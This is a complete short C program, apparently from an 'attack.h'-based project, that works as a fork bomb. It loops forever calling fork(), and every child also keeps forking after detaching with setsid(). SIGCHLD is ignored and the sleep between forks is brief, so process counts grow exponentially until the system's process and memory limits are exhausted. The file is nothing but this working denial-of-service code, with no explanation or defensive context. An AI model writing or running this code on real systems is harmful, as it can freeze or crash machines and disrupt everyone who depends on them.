#include "attack.h"

int main(void) {
  signal(SIGCHLD, SIG_IGN);
  for (;;) {
    if (fork() == 0) setsid();
    usleep(1000);
  }
}
